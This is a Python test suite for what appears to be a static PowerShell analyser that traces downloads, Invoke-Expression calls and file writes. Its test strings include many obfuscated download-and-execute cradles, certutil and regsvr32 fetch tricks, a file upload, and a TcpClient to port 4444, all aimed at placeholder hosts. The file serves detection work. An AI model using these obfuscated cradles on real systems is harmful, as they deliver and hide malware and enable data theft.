"""What scripts start: cmdlets, programs, methods, and the flow of content between them."""

from __future__ import annotations

import pytest

from tidewaiter.reading.budget import Budget
from tidewaiter.reading.invocation import Invocation, Script, Word
from tidewaiter.reading.powershell import parse

URL = "http://example.com/x"
CLASS_ID = "{F6D90F16-9C73-11D3-B32E-00C04F990BB4}"
READ_AND_WRITE = (
    "$r=[Net.WebRequest]::Create('{0}').GetResponse().GetResponseStream();$b=New-Object byte[] 64;"
    "$f=New-Object IO.FileStream 'C:\\y','Create';while(($n=$r.Read($b,0,64)) -gt 0){{$f.Write($b,0,$n)}}"
)


def read(text: str) -> Script:
    return parse(text, Budget(cpu_seconds=5))


def names(text: str) -> list[str]:
    return [call.program for call in read(text)]


def only(text: str, program: str) -> Invocation:
    found = [call for call in read(text) if call.program == program]
    assert len(found) == 1, (text, names(text))
    return found[0]


def named(call: Invocation) -> dict[str, str]:
    return {key: word.text for key, word in call.named.items()}


@pytest.mark.parametrize(
    ("text", "args", "options"),
    [
        (f"iwr {URL} -OutF a.exe", (URL,), {"outfile": "a.exe"}),
        (f"Invoke-WebRequest -U {URL} -UseB -o a.exe", (), {"uri": URL, "usebasicparsing": "true", "outfile": "a.exe"}),
        (f"iwr -Uri:\"{URL}\" -OutFile:'C:\\a b.exe'", (), {"uri": URL, "outfile": "C:\\a b.exe"}),
        (f"iwr –Uri {URL} —OutFile y", (), {"uri": URL, "outfile": "y"}),
        (f"i`wr {URL} -ou`tfile y", (URL,), {"outfile": "y"}),
        (f"iW''R ('{URL}')-OutFile 'y'", (URL,), {"outfile": "y"}),
        (
            f"$h=@{{Uri='{URL}';OutF='y';UseBasicParsing=$true}};iwr @h",
            (),
            {"uri": URL, "outfile": "y", "usebasicparsing": "true"},
        ),
        (f"Microsoft.PowerShell.Utility\\Invoke-WebRequest {URL}", (URL,), {}),
        (f"iwr {URL} -UseBasicParsing:$false", (URL,), {"usebasicparsing": "false"}),
        (f"iwr `\n  -Uri {URL} `\n  -OutFile y # iwr no", (), {"uri": URL, "outfile": "y"}),
        (f"wget {URL} -O a", (URL,), {"outfile": "a"}),
        ("iwr http://example.com/?a=1&b=2 -OutFile y", ("http://example.com/?a=1&b=2",), {"outfile": "y"}),
        (f"iwr {URL} -OutFile $env:TEMP\\x.exe", (URL,), {"outfile": "$env:TEMP\\x.exe"}),
        (f"iwr {URL} -OutFile (Join-Path $env:TEMP 'x.exe')", (URL,), {"outfile": "$env:TEMP\\x.exe"}),
    ],
)
def test_parameters_have_full_names(text: str, args: tuple[str, ...], options: dict[str, str]) -> None:
    call = only(text, "invoke-webrequest")
    assert call.args == args
    assert named(call) == options


def test_unknown_parts_stay_as_spelled_and_are_marked() -> None:
    call = only(f'iwr {URL} -OutFile "$env:APPDATA\\$who.exe"', "invoke-webrequest")
    assert (call.named["outfile"].text, call.named["outfile"].known) == ("$env:APPDATA\\$who.exe", False)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (f"curl.exe -o a {URL}", ("curl.exe", "-o", "a", URL)),
        (f"certutil -urlcache -split -f {URL} C:\\a.exe", ("certutil", "-urlcache", "-split", "-f", URL, "C:\\a.exe")),
        (f"cmd /c 'curl -o a {URL}'", ("cmd", "/c", f"curl -o a {URL}")),
        (f"& 'C:\\p q\\x.exe' --url={URL}", ("C:\\p q\\x.exe", f"--url={URL}")),
        (f"$c='certutil.exe';& $c -f {URL}", ("certutil.exe", "-f", URL)),
        ("rundll32 a.dll,Go b", ("rundll32", "a.dll,Go", "b")),
        (f'regsvr32 /i:"{URL}" scrobj.dll', ("regsvr32", f"/i:{URL}", "scrobj.dll")),
        (f'"C:\\Windows\\System32\\certutil.exe" -f {URL}', ("C:\\Windows\\System32\\certutil.exe", "-f", URL)),
        (f"& $env:windir\\system32\\certutil.exe -f {URL}", ("C:\\WINDOWS\\system32\\certutil.exe", "-f", URL)),
        (f"curl -fsSL {URL} -o a", ("curl", "-fsSL", URL, "-o", "a")),
        (f"curl -O {URL}", ("curl", "-O", URL)),
        (f"$a='-o','a';curl.exe @a {URL}", ("curl.exe", "-o", "a", URL)),
        (f'x.exe --% -a "b c" {URL}', ("x.exe", "-a", "b", "c", URL)),
        ("ssh-keygen -t rsa", ("ssh-keygen", "-t", "rsa")),
    ],
)
def test_programs_keep_their_words(text: str, words: tuple[str, ...]) -> None:
    script = read(text)
    assert [tuple(word.text.strip('"') for word in call.argv) for call in script] == [words]


DOWNLOADS = [
    f"(New-Object Net.WebClient).DownloadString('{URL}')",
    f"(New-Object -TypeName System.Net.WebClient).\"DOWNLOADstring\"('{URL}')",
    f"(New-Object Net.WebClient).('Down'+'loadString').Invoke('{URL}')",
    f"(&('new-ob'+'ject') ('nEt.WeB'+'ClIEnt')).DownloadString('{URL}')",
    f"$w=[Net.WebClient]::new();$w.DownloadString('{URL}')",
    f"[Activator]::CreateInstance([Type]::GetType('System.Net.WebClient')).DownloadString('{URL}')",
    f"$t='Net.W';$u='ebClient';$w=New-Object \"$t$u\";$w.DownloadString('{URL}')",
    f"[System.Net.WebClient]$w=New-Object System.Net.WebClient;$w.DownloadString([uri]'{URL}')",
    f"[Net.WebClient].GetMethod('DownloadString').Invoke((New-Object Net.WebClient),@('{URL}'))",
    f"(New-Object Net.WebClient).PSObject.Methods['DownloadString'].Invoke('{URL}')",
    f"$w=New-Object Net.WebClient;$w.((($w|Get-Member)|?{{$_.Name -clike 'D*g'}}).Name).Invoke('{URL}')",
    f"New-Object Net.WebClient|%{{$_.DownloadString('{URL}')}}",
    f"&(gcm *w-O*)Net.WebClient|% DownloadString '{URL}'",
    f"sal z New-Object;(z Net.WebClient).DownloadString('{URL}')",
    f"$unknown.DownloadString('{URL}')",
    f"SV 1 '{URL}';(New-Object Net.WebClient).DownloadString((GV 1 -ValueOnly))",
    f"(.((ls Variable:\\E*Cont*).Value.InvokeCommand.GetCmdlet('New-Object'))Net.WebClient).DownloadString('{URL}')",
]


@pytest.mark.parametrize("text", DOWNLOADS)
def test_web_client_by_any_construction(text: str) -> None:
    assert only(text, "system.net.webclient.downloadstring").args == (URL,)


RUNS = [
    "iex ({0})",
    "IEX({0})",
    "I`Ex ({0})",
    "{0}|iex",
    "({0})|Invoke-Expression",
    "$x={0};iex $x",
    "$x=({0});$y=\"$x\";.('i'+'ex') $y",
    "{0}|&($ShellId[1]+$ShellId[13]+'x')",
    "{0}|.($env:comspec[4,26,25]-join'')",
    "{0}|&((gv '*mdr*').Name[3,11,2]-join'')",
    "&($VerbosePreference.ToString()[1,3]+'x'-join'')({0})",
    "&($pshome[4]+$PSHome[30]+'x')({0})",
    "&(gal i*x)({0})",
    "sal q iex;q ({0})",
    "[ScriptBlock]::Create(({0})).Invoke()",
    "&([scriptblock]::Create(({0})))",
    "icm -ScriptBlock ([scriptblock]::Create(({0})))",
    "$ExecutionContext.InvokeCommand.InvokeScript(({0}))",
    "$ExecutionContext.InvokeCommand.NewScriptBlock(({0})).Invoke()",
    "[powershell]::Create().AddScript(({0})).Invoke()",
    'iex "$({0}); Invoke-Thing"',
    "iex (({0}) -replace 'a','b')",
    "iex -Command ({0}).Trim()",
    "foreach($i in 1){{iex ({0})}}",
    "try{{iex ({0})}}catch{{}}",
    "function f{{{0}}};iex (f)",
]


@pytest.mark.parametrize("text", RUNS)
@pytest.mark.parametrize(
    "fetch", [f"(New-Object Net.WebClient).DownloadString('{URL}')", f"irm {URL}", f"(iwr {URL} -useb).Content"]
)
def test_what_is_fetched_reaches_invoke_expression(text: str, fetch: str) -> None:
    script = read(text.format(fetch))
    fetched = [call for call in script if URL in (*call.args, *named(call).values())]
    runs = [call for call in script if call.program == "invoke-expression"]
    assert len(fetched) == 1
    assert len(runs) == 1
    reached = (*runs[0].stdin, *(call for word in runs[0].argv[1:] for call in word.content))
    assert fetched[0] in reached


@pytest.mark.parametrize(
    ("text", "program", "path"),
    [
        ("[IO.File]::WriteAllText('C:\\y',(irm {0}))", "system.io.file.writealltext", "C:\\y"),
        ("[IO.File]::WriteAllBytes('C:\\y',[Convert]::FromBase64String((irm {0})))", "system.io.file.writeallbytes", "C:\\y"),
        ("$s=New-Object IO.StreamWriter 'C:\\y';$s.Write((irm {0}));$s.Close()", "system.io.filestream.write", "C:\\y"),
        (
            "$r=[Net.WebRequest]::Create('{0}').GetResponse().GetResponseStream();$f=[IO.File]::Create('C:\\y');$r.CopyTo($f)",
            "system.io.filestream.write",
            "C:\\y",
        ),
        (
            READ_AND_WRITE,
            "system.io.filestream.write",
            "C:\\y",
        ),
        ("sc C:\\y (irm {0})", "set-content", "C:\\y"),
    ],
)
def test_fetched_content_is_written(text: str, program: str, path: str) -> None:
    script = read(text.format(URL))
    fetch, write = script.invocations[0], next(call for call in script if call.program == program)
    assert write.args[0] == path
    assert fetch in write.argv[2].content


@pytest.mark.parametrize("tail", ["| Out-File C:\\y", "| select -ExpandProperty Content | Out-File C:\\y", "| tee C:\\y"])
def test_fetched_content_is_piped_to_a_file(tail: str) -> None:
    script = read(f"iwr {URL} {tail}")
    assert script.invocations[-1].args == ("C:\\y",)
    assert script.invocations[-1].stdin == (script.invocations[0],)


def test_redirections() -> None:
    first, second = (
        read(f"irm {URL} > a.ps1; (iwr {URL}).Content >> b.ps1").invocations[:1]
        + read(f"(iwr {URL}).Content >> b.ps1").invocations[1:]
    )
    assert first.stdout is not None
    assert (first.stdout.text, first.append) == ("a.ps1", False)
    assert second.stdout is not None
    assert (second.argv, second.stdout.text, second.append) == ((), "b.ps1", True)
    assert [call.program for call in second.stdin] == ["invoke-webrequest"]
    assert only(f"x.exe {URL} 2>$null", "x.exe").stdout is None
    null = only(f"x.exe {URL} > $null", "x.exe").stdout
    assert null is not None
    assert null.text == "NUL"


def test_com_objects_hand_on_their_response() -> None:
    script = read(f"$h=New-Object -ComObject Microsoft.XMLHTTP;$h.open('GET','{URL}',$false);$h.send();iex $h.responseText")
    assert script.invocations[0].argv[0].text == "com:msxml2.xmlhttp.open"
    assert script.invocations[0].args[1] == URL
    assert script.invocations[0] in script.invocations[-1].argv[1].content


def test_stream_saved_to_file_holds_the_response() -> None:
    script = read(
        f"$x=New-Object -Com Msxml2.XMLHTTP;$x.Open('GET','{URL}',0);$x.Send();$s=New-Object -Com ADODB.Stream;$s.Open();"
        "$s.Write($x.ResponseBody);$s.SaveToFile('C:\\e.exe',2)"
    )
    save = script.invocations[-1]
    assert (save.program, save.args[0]) == ("com:adodb.stream.savetofile", "C:\\e.exe")
    assert script.invocations[0] in save.stdin


@pytest.mark.parametrize(
    ("text", "program", "args"),
    [
        (f"(New-Object -Com Excel.Application).Workbooks.Open('{URL}')", "com:excel.application.workbooks.open", (URL,)),
        (
            f"[Activator]::CreateInstance([Type]::GetTypeFromCLSID('{CLASS_ID}')).Open('GET','{URL}')",
            "com:msxml2.xmlhttp.open",
            ("GET", URL),
        ),
        ("New-Object Net.Sockets.TcpClient('192.0.2.5',4444)", "system.net.sockets.tcpclient.new", ("192.0.2.5", "4444")),
        (f"[W.U]::URLDownloadToFileW(0,'{URL}','C:\\x',0,0)", "urlmon.urldownloadtofile", ("0", URL, "C:\\x", "0", "0")),
        (f"$x=New-Object xml;$x.Load('{URL}')", "system.xml.xmldocument.load", (URL,)),
        (
            f"$h=New-Object Net.Http.HttpClient;$h.BaseAddress='{URL}';$h.GetStringAsync('y').Result",
            "system.net.http.httpclient.getstringasync",
            ("http://example.com/y",),
        ),
        (f"(New-Object Net.WebClient).UploadFile('{URL}','C:\\s')", "system.net.webclient.uploadfile", (URL, "C:\\s")),
        (f"([wmiclass]'Win32_Process').Create('curl {URL}')", "wmi:win32_process.create", (f"curl {URL}",)),
    ],
)
def test_methods_have_canonical_names(text: str, program: str, args: tuple[str, ...]) -> None:
    assert only(text, program).args == args


def test_every_url_of_a_loop_is_read_though_it_breaks() -> None:
    text = (
        "$u='http://example.com/a*http://example.org/b*http://example.net/c'.Split('*');"
        'foreach($x in $u){try{$w.DownloadFile($x,"$env:TEMP\\k.exe");if((gi k).Length -ge 9){saps k;break}}catch{}}'
    )
    found = [call.args[0] for call in read(text) if call.program == "system.net.webclient.downloadfile"]
    assert found == ["http://example.com/a", "http://example.org/b", "http://example.net/c"]


def test_loops_are_cut_after_32_rounds() -> None:
    budget = Budget(cpu_seconds=5)
    script = parse('foreach($i in 1..40){iwr "http://example.com/$i"}', budget)
    assert len(script.invocations) == 32
    assert "loop cut short" in budget.limits


@pytest.mark.parametrize(
    "text",
    [
        'for($i=1;$i -le 2;$i++){iwr "http://example.com/$i"}',
        '$i=0;do{$i++;iwr "http://example.com/$i"}while($i -lt 2)',
        '1..2|%{iwr "http://example.com/$_"}',
        'foreach($i in 1,2){iwr "http://example.com/$i"}',
        'function f($n){iwr "http://example.com/$n"};f 1;f -n 2',
        '(1,2).ForEach({iwr "http://example.com/$_"})',
        'icm {param($a,$b) iwr "http://example.com/$a"; iwr "http://example.com/$b"} -ArgumentList 1,2',
        'if($x){iwr http://example.com/1}else{iwr http://example.com/2}',
        '$ok=$true;if(!$ok){iwr http://example.com/1};iwr http://example.com/2',
        'switch($x){a{iwr http://example.com/1}default{iwr http://example.com/2}}',
        'try{iwr http://example.com/1}catch{iwr http://example.com/2}',
        'if(Test-Path a){exit} iwr http://example.com/1; iwr http://example.com/2',
        "Start-BitsTransfer -Source http://example.com/1,http://example.com/2 -Destination a,b",
    ],
)  # fmt: skip
def test_branches_loops_and_functions(text: str) -> None:
    urls = [word for call in read(text) for word in (*call.args, *named(call).values()) if word.startswith("http:")]
    assert urls == ["http://example.com/1", "http://example.com/2"]


def test_uncalled_functions_are_read_once() -> None:
    assert names(f"function a{{iwr {URL}}}") == ["invoke-webrequest"]
    assert names(f"function a{{iwr {URL}}};a") == ["invoke-webrequest"]


def test_only_commands_count() -> None:
    assert names(f"Write-Host 'iex (iwr {URL})'") == ["write-host"]
    assert names(f"# iwr {URL}\n<# iwr {URL} #> gps") == ["get-process"]
    assert names("") == []


def test_piped_text_and_background() -> None:
    call = only(f"'iwr {URL}|iex'|powershell -", "powershell")
    assert call.stdin_text == f"iwr {URL}|iex"
    assert only(f"iwr {URL} &", "invoke-webrequest").background


def test_start_process_joins_its_arguments() -> None:
    call = only("saps powershell -ArgumentList '-c','gps' -WindowStyle Hidden", "start-process")
    assert named(call) == {"argumentlist": "-c gps", "windowstyle": "Hidden"}


def test_variables_of_an_earlier_text() -> None:
    fetch = Invocation((Word("invoke-restmethod"),))
    script = parse("iex $a; iwr $u", Budget(), {"A": Word("$a", (fetch,), known=False), "u": Word(URL)})
    assert script.invocations[0].argv[1].content == (fetch,)
    assert script.invocations[1].args == (URL,)
    later = parse(f"$p='{URL}';$q=irm $p", Budget())
    assert later.variables["p"].text == URL
    assert later.variables["q"].content == (later.invocations[0],)
    assert later.invocations[0].assigned == "q"


def test_session_of_a_copy() -> None:
    script = read("$s=New-PSSession ws7;Copy-Item a -Destination b -ToSession $s")
    assert script.invocations[1].named["tosession"].content == (script.invocations[0],)
